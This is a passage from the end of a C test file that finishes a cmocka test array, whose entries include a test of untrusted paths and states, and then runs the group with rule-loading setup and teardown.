	    IN_FOLDER(the_bill_of_materials_lists_and_links),
	    IN_FOLDER(paths_and_states_are_not_trusted),
	};
	return cmocka_run_group_tests(tests, load_rules, free_rules);
}
